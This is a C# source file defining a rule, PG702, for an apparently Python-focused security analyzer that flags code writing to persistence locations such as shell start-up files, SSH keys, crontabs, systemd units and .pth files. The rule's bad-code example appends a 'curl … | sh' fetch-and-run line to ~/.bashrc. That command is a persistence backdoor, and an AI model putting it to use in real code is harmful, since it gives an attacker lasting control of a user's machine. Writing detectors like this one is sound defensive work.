using System.Collections.Immutable;
using PyGuard.Analyzers.Common;
using PyGuard.Engine.Analysis;
using PyGuard.Engine.Model;
using PyGuard.Syntax.Tree;

namespace PyGuard.Analyzers.Filesystem;

/// <summary>PG702: writing where the content will run later on its own.</summary>
public sealed class PersistenceWrite : Analyzer
{
    public static readonly RuleDescriptor Descriptor = Rule.Define(
        "PG702", "Write to a persistence location", "{0} writes {1}: {2}",
        RuleCategory.Filesystem, Severity.Error, Confidence.High, 9.0, [506, 912],
        whatItDoes: "Reports writes, copies, moves and links into places whose content runs later without anyone starting it: shell start-up files (`~/.bashrc`, `~/.profile`, `/etc/profile.d`), `~/.ssh/authorized_keys` and `~/.ssh/config`, crontabs, systemd units, desktop autostart entries and launch agents, directories early on PATH (`~/.local/bin`, `/usr/local/bin`), anything under `/etc`, the interpreter's site-packages, scripts and standard library, `sitecustomize.py`, `usercustomize.py` and `.pth` files wherever they are written, git hooks and git configuration, and the configuration of pip, npm and conda (which decides where packages come from).",
        why: "Persistence turns one run of malicious code into a permanent foothold: a line in `.bashrc`, a cron entry or a `.pth` file runs the attacker's code every time the user opens a shell, the machine boots or Python starts — long after the gate let the snippet through.",
        example: "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as rc:\n    rc.write('curl -s http://203.0.113.9/x | sh\\n')",
        instead: "Write the task's output into the working directory. Configuration of the user's shell, services or Python installation is for the user to change.",
        safeExample: "from pathlib import Path\nPath('output').mkdir(exist_ok=True)\nPath('output/report.txt').write_text(report)",
        "https://attack.mitre.org/tactics/TA0003/");

    public override ImmutableArray<RuleDescriptor> SupportedRules { get; } = [Descriptor];

    public override void Initialize(AnalysisRegistration registration) =>
        registration.RegisterCallAction(Analyze, FileOperations.Functions);

    private static void Analyze(NodeContext context)
    {
        foreach (var (operation, location) in FileOperations.Targets(context.Model, (ExprCall)context.Node, FileAction.Write, FileAction.Link))
        {
            if (PersistenceLocations.Match(location) is { } what)
            {
                context.ReportHere(Descriptor, operation.Function, location.Text, what);
                return;
            }
        }
    }
}
